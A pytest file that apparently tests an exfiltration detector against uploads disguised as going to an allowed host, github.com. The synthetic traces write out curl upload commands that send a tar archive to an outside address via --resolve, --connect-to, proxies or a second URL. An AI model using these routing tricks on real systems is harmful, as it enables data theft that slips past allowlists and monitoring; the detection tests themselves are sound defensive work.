"""Class 5 of issue 11: an allowed destination used as cover. With `--allow-destination
github.com`, a command that names github.com but sends the bytes elsewhere (--resolve,
--connect-to, a proxy, a second URL, or /etc/hosts) must not be suppressed: it is judged by the
address the bytes reached. A name alone allows only where no connection telemetry exists, and
the finding then says so."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.adversarial.trace import FORMATS, PUBLIC, Trace, detect, detect_and_report, exfil

ALLOW = ("--allow-destination", "github.com")
ROUTED = {
    "resolve": ("--resolve", f"github.com:443:{PUBLIC}", "https://github.com/"),
    "connect-to": ("--connect-to", f"github.com:443:{PUBLIC}:443", "https://github.com/"),
    "proxy": ("-x", f"http://{PUBLIC}:3128", "https://github.com/"),
    "second-url": ("https://github.com/", f"https://{PUBLIC}/"),
    "etc-hosts": ("https://github.com/",),  # /etc/hosts says github.com is the attacker
}


def build_then_upload(curl_args: tuple[str, ...], network: bool = True) -> Trace:
    """A build-packaging shape (an archive under dist/, which a benign profile covers), then
    curl sending it to what its command line calls github.com."""
    trace = Trace()
    tar = trace.run(0, "tar", "czf", "dist/app.tgz", "build/")
    trace.write_file(0.5, tar, "/src/dist/app.tgz")
    curl = trace.run(10, "curl", "-T", "dist/app.tgz", *curl_args)
    if network:
        trace.send(10.2, curl, PUBLIC, 5_000_000)
    return trace


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("variant", sorted(ROUTED))
def test_a_name_that_is_allowed_does_not_cover_bytes_sent_elsewhere(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, variant: str
) -> None:
    path = build_then_upload(ROUTED[variant]).write(tmp_path, fmt)
    [alert] = exfil(detect(capsys, str(path), *ALLOW))
    assert alert["severity_id"] >= 4  # high: curl names the archive it sends


@pytest.mark.parametrize("variant", ["resolve", "connect-to", "proxy", "second-url"])
def test_without_network_telemetry_the_command_line_s_route_is_judged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], variant: str
) -> None:
    # auditd with no connect records: only the command line says where the bytes went.
    path = build_then_upload(ROUTED[variant], network=False).write(tmp_path, "auditd")
    [alert] = exfil(detect(capsys, str(path), *ALLOW))
    assert alert["severity_id"] >= 4
    assert PUBLIC in str(alert["evidences"])


def test_a_name_alone_allows_only_without_connection_telemetry_and_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = build_then_upload(("https://github.com/",), network=False).write(tmp_path, "auditd")
    alerts, err = detect_and_report(capsys, str(path), *ALLOW, "--show-suppressed")
    assert exfil(alerts) == []
    assert "github.com allowed by name only: no connection telemetry" in err


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("option", ["-x", "--proxy", "--socks5-hostname"])
def test_an_internal_proxy_does_not_make_an_upload_to_an_outside_url_internal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, option: str
) -> None:
    # The bytes reach the outside URL through the proxy: only the proxy's address is seen, and
    # naming an internal proxy must not turn the upload into an internal one.
    trace = Trace()
    trace.run(0, "tar", "czf", "/tmp/d.tgz", "/srv/data")
    curl = trace.run(10, "curl", option, "10.0.0.5:3128", "-T", "/tmp/d.tgz", f"https://{PUBLIC}/")
    trace.send(10.2, curl, "10.0.0.5", 5_000_000, port=3128)
    [alert] = exfil(detect(capsys, str(trace.write(tmp_path, fmt))))
    assert alert["severity_id"] >= 5  # critical: curl names the archive tar wrote
    evidence = str(alert["evidences"])
    assert f"non-internal {PUBLIC} (through {option} 10.0.0.5:3128)" in evidence


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_second_resolve_does_not_hide_the_first(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    # curl keeps every --resolve entry: github.com still goes to the outside address.
    pins = ("--resolve", f"github.com:443:{PUBLIC}", "--resolve", "example.org:443:10.0.0.9")
    path = build_then_upload((*pins, "https://github.com/")).write(tmp_path, fmt)
    [alert] = exfil(detect(capsys, str(path), *ALLOW))
    assert alert["severity_id"] >= 4
    assert f"routed by --resolve github.com:443:{PUBLIC}" in str(alert["evidences"])
